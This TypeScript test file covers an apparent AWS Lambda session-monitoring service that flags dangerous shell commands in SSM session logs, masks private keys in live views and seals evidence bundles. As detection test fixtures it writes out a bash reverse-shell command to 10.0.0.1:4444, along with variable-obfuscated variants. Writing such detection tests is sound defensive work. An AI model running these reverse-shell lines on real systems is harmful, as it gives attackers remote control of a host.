import { rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { GetObjectCommand } from '@aws-sdk/client-s3';
import { NAMES } from '@sallyport/lab/accounts.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { objectLink } from '../../src/adapters/aws/object-link.ts';
import { deriveFiles } from '../../src/adapters/search/derive-files.ts';
import { FileRowDeriver } from '../../src/adapters/search/file-row-deriver.ts';
import type { WatchLine } from '../../src/api/contract.ts';
import { derivedKey } from '../../src/domain/archive/archive-key.ts';
import { readStatus } from '../../src/operations/status.ts';
import { takeDelivered } from '../../src/runtimes/lambda/delivered.ts';
import { keep } from '../../src/runtimes/lambda/keep.ts';
import { takeLines } from '../../src/runtimes/lambda/log-lines.ts';
import type { LambdaParts } from '../../src/runtimes/lambda/parts.ts';
import { statusSourcesOf } from '../../src/runtimes/lambda/status-sources.ts';
import { sweepPlace } from '../../src/runtimes/lambda/sweep.ts';
import { watchInParts } from '../../src/runtimes/lambda/watch-in-parts.ts';
import { MemorySearchIndex } from '../memory/archive.ts';
import { LambdaWorld, PLACE } from '../state-machines/lambda-world.ts';
import { deliverLogs, letNodeWrite, openShell } from '../state-machines/open-shell.ts';
import { type LineStream, makeDeliveredQueue, makeLineStream } from './entry-ways.ts';

const PROMPT = 'ssm-user@node:~$ ';
const NONE = { batchItemFailures: [] };
/** Lines that rules of ours meet. */
const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';

let world: LambdaWorld;
let lines: LineStream;
/** Two processes. */
let one: LambdaParts;
let other: LambdaParts;
/** The session whose logs were taken. */
let handedOn: string;
let delivered: Awaited<ReturnType<typeof makeDeliveredQueue>>;
const folder = join(tmpdir(), `lambda-logs-${process.pid}`);

beforeAll(async () => {
  world = await LambdaWorld.start();
  await letNodeWrite(world);
  lines = await makeLineStream(world);
  delivered = await makeDeliveredQueue(world);
  [one, other] = [aProcess(), aProcess()];
});

afterAll(async () => {
  lines?.close();
  await world?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** A process of its own, which derives rows too. */
const aProcess = (): LambdaParts =>
  world.process(undefined, {
    deriver: new FileRowDeriver(folder, deriveFiles),
    search: () => new MemorySearchIndex(),
  });
const findings = async (id: string) =>
  (await world.parts.stores.findings.list({ session: id })).map(({ command, count }) => [command, count]);

test('lines of a session are judged as they come through the stream, whichever process they come to', async () => {
  const { id } = await openShell(world, { document: null });
  await lines.write(id, [`${PROMPT}target=10.0.0.1`], [`${PROMPT}ls`, 'a b']);
  expect(await takeLines(one, await lines.next())).toEqual(NONE);
  await lines.write(id, [`${PROMPT}bash -i >& /dev/tcp/$target/4444 0>&1`]);
  const batch = await lines.next();
  expect(batch.Records.length).toBeGreaterThan(0);
  expect(await takeLines(other, batch)).toEqual(NONE);
  const [found] = await findings(id);
  expect(found).toEqual([`bash -i >& /dev/tcp/$target/4444 0>&1`, 1]);
  const told = (await world.parts.stores.notices.list({})).filter((one) => JSON.stringify(one).includes(id));
  expect(told.map(({ kind }) => kind)).toContain('finding');
  expect(await world.parts.stores.notices.unsent(10)).toEqual([]);
});

test('a batch that comes doubled, in pieces or to two processes at once changes nothing', async () => {
  const { id } = await openShell(world, { document: null });
  await lines.write(id, [`${PROMPT}ls`], [`${PROMPT}${REVERSE_SHELL}`], [`${PROMPT}echo done`]);
  const batch = await lines.next();
  const pieces = batch.Records.map((record) => ({ Records: [record] }));
  await Promise.all([takeLines(one, batch), takeLines(other, batch)]);
  for (const piece of pieces.toReversed()) expect(await takeLines(other, piece)).toEqual(NONE);
  const found = await findings(id);
  expect(new Set(found.map(([command]) => command)).size).toBe(1);
  expect(found.every(([, count]) => count === 1)).toBe(true);
});

test('a subscription that calls the function itself is taken in any order', async () => {
  const { id } = await openShell(world, { document: null });
  await lines.write(id, [`${PROMPT}x=/dev/tcp/10.0.0.1`], [`${PROMPT}bash -i >& $x/4444 0>&1`]);
  const { Records } = await lines.next();
  const direct = Records.map(({ kinesis }) => ({ awslogs: { data: kinesis.data } }));
  for (const event of direct.toReversed()) expect(await takeLines(world.parts, event)).toEqual(NONE);
  expect(await findings(id)).toContainEqual(['bash -i >& $x/4444 0>&1', 1]);
});

test('what cannot be read is told and passed over; from what fails on, the batch comes again', async () => {
  const [first, second] = [
    await openShell(world, { document: null }),
    await openShell(world, { document: null }),
  ];
  await lines.write(first.id, [`${PROMPT}ls`]);
  await lines.write(second.id, [`${PROMPT}${REVERSE_SHELL}`]);
  const { Records } = await lines.next();
  const odd = { kinesis: { data: Buffer.from('not packed').toString('base64'), sequenceNumber: '0' } };
  const { readings } = other;
  const take = readings.take.bind(readings);
  readings.take = (place, id, ...more) =>
    id === second.id ? Promise.reject(new Error('the table is throttled')) : take(place, id, ...more);
  const failing = Records.findIndex(({ kinesis }) => isOf(kinesis.data, second.id));
  expect(await takeLines(other, { Records: [odd, ...Records] })).toEqual({
    batchItemFailures: [{ itemIdentifier: Records[failing]?.kinesis.sequenceNumber }],
  });
  expect(world.lines.join('\n')).toContain('cannot be read');
  await expect(takeLines(other, { awslogs: { data: Records[failing]?.kinesis.data ?? '' } })).rejects.toThrow(
    'throttled',
  );
  readings.take = take;
  expect(await takeLines(other, { Records })).toEqual(NONE);
  expect((await findings(second.id)).map(([command]) => command)).toContain(REVERSE_SHELL);
});

test('a live session is watched in parts, from any process, each line once and masked by what was before it', async () => {
  const shell = await openShell(world, { document: null });
  const part = async (parts: LambdaParts, after: string | null) => {
    const told: WatchLine[] = [];
    for await (const line of watchInParts(parts, shell.id, { signal: new AbortController().signal, after }))
      told.push(line);
    const last = told.at(-1);
    const texts = told.map((line) => ('text' in line ? line.text : line.kind));
    return { texts, after: last?.kind === 'more' ? last.after : null };
  };
  const none = await part(one, null);
  expect(none.texts).toEqual([expect.stringContaining('No output yet'), 'more']);
  await lines.write(shell.id, [`${PROMPT}cat key`, '-----BEGIN RSA PRIVATE KEY-----'], ['c2VjcmV0']);
  const first = await part(other, none.after);
  expect(first.texts).toEqual([`${PROMPT}cat key`, expect.stringContaining('BEGIN'), '***', 'more']);
  await lines.write(shell.id, ['c2VjcmV0b2Zt', '-----END RSA PRIVATE KEY-----']);
  const second = await part(one, first.after);
  expect(second.texts).toEqual(['***', expect.stringContaining('END'), 'more']);
  expect((await part(other, second.after)).texts).toEqual(['more']);
  shell.exit();
  await world.runUntil(world.now + 60_000);
  expect((await part(other, second.after)).texts).toEqual(['ended']);
  expect((await part(one, 'not a place')).texts.slice(0, 3)).toEqual(first.texts.slice(0, 3));
  await lines.next();
});

test('a log that arrives is handed on at once: rows are derived, rules hold it, and no timer is left', async () => {
  const shell = await openShell(world, { document: null });
  shell.exit();
  await world.runUntil(world.now + 60_000);
  expect(await world.parts.stores.sessions.read(PLACE, shell.id)).toMatchObject({ state: 'ended' });
  await deliverLogs(world, shell.id);
  await lines.next();
  const batch = await delivered();
  expect(batch.Records.map(({ body }) => body).join('\n')).toContain(`${shell.id}.log`);
  await Promise.all([takeDelivered(one, batch), takeDelivered(other, batch)]);
  expect(await takeDelivered(one, batch)).toEqual(NONE);
  handedOn = shell.id;
  const record = (await world.parts.stores.sessions.read(PLACE, shell.id))!;
  expect(record.deliveries?.deliveries.map(({ state, handedOn }) => [state, handedOn])).toEqual([
    ['delivered', true],
    ['delivered', true],
  ]);
  const key = derivedKey('lines', { ...PLACE, id: shell.id, startedAt: record.start.startedAt } as never);
  const rows = await world.hub.s3.send(new GetObjectCommand({ Bucket: NAMES.archiveBucket, Key: key }));
  expect(rows.ContentLength).toBeGreaterThan(20);
});

test('messages that tell of no log of ours are done and change nothing', async () => {
  const before = world.lines.length;
  const told = (detail: object) => ({
    messageId: 'm',
    body: JSON.stringify({ source: 'aws.s3', 'detail-type': 'Object Created', detail }),
  });
  const Records = [
    told({ bucket: { name: NAMES.archiveBucket }, object: { key: 'sallyport/lines/x.gz' } }),
    told({ bucket: { name: 'another' }, object: { key: 'nobody-0.log' } }),
    { messageId: 'odd', body: '{"detail": "\u001b[2J"' },
  ];
  expect(await takeDelivered(world.parts, { Records })).toEqual(NONE);
  expect(world.lines.slice(before)).toHaveLength(1);
});

test('a message of the delivered queue that could not be seen to comes again, and only that one', async () => {
  const { sessions } = one.watch;
  const list = sessions.list.bind(sessions);
  sessions.list = async (filter) => {
    if (filter.id === 'unlucky-0') throw new Error('the table is throttled');
    return list(filter);
  };
  const told = (id: string) => ({
    messageId: `about ${id}`,
    body: JSON.stringify({
      ...{ source: 'aws.s3', 'detail-type': 'Object Created' },
      detail: { bucket: { name: NAMES.archiveBucket }, object: { key: `${id}.log` } },
    }),
  });
  const answer = await takeDelivered(one, { Records: [told('unlucky-0'), told('nobody-0')] });
  sessions.list = list;
  expect(answer).toEqual({ batchItemFailures: [{ itemIdentifier: 'about unlucky-0' }] });
});

/** Time for all that is due. */
const keepAll = (parts: LambdaParts) => keep(parts, world.now + 60_000);
const status = () => readStatus(statusSourcesOf(other));

test('a session is sealed once and its bundle walked over, though two runs come at the same time', async () => {
  await world.runUntil(world.now + 60_000);
  await Promise.all([keepAll(one), keepAll(other)]);
  world.setTime(world.now + 60_000);
  await keepAll(other);
  const sealed = await one.evidence.store.ofSession({ ...PLACE, id: handedOn });
  expect(sealed).toHaveLength(1);
  const { bucket, key } = one.evidence.objects.archive(sealed[0]?.bundle.key ?? '');
  const link = await objectLink(one.clients.hub.clients.s3, { bucket, key, versionId: null }, 60);
  const fetched = await (await fetch(link ?? '')).arrayBuffer();
  expect(fetched.byteLength).toBe(sealed[0]?.bundle.bytes);
  expect(
    await objectLink(one.clients.hub.clients.s3, { bucket, key: 'none', versionId: null }, 60),
  ).toBeNull();
  const { evidence } = await status();
  expect(evidence).toMatchObject({ sealError: null, walkError: null, verified: { problems: 0 } });
  expect(evidence?.verified?.bundles).toBe(evidence?.bundles);
});

test('what fails is told by the status until it succeeds, and holds nothing else up', async () => {
  world.setTime(world.now + 60_000);
  const { store } = one.evidence;
  const toLookAt = store.toLookAt.bind(store);
  store.toLookAt = () => Promise.reject(new Error('the table is throttled'));
  await keepAll(one);
  expect((await status()).reasons.join(' ')).toContain('evidence is not sealed: the table is throttled');
  expect((await one.chores.read('evidence-walk'))?.begunAt).toBe(world.now);
  store.toLookAt = toLookAt;
  world.setTime(world.now + 60_000);
  await keepAll(one);
  expect((await status()).reasons.join(' ')).not.toContain('sealed');
});

test('people are told once when nothing has looked at a place for a while, and when it is looked at again', async () => {
  const kinds = async () =>
    (await one.stores.notices.list({})).map(({ kind }) => kind).filter((kind) => kind.startsWith('watch-'));
  world.loseAll();
  for (const minutes of [10, 5, 5]) {
    world.setTime(world.now + minutes * 60_000);
    await keepAll(minutes === 10 ? other : one);
  }
  expect(await kinds()).toEqual(['watch-blind']);
  expect(await one.stores.notices.unsent(10)).toEqual([]);
  await sweepPlace(one, PLACE);
  world.setTime(world.now + 60_000);
  await keepAll(one);
  expect((await kinds()).toSorted()).toEqual(['watch-blind', 'watch-sees-again']);
});

function isOf(data: string, id: string): boolean {
  return gunzipSync(Buffer.from(data, 'base64')).toString().includes(id);
}
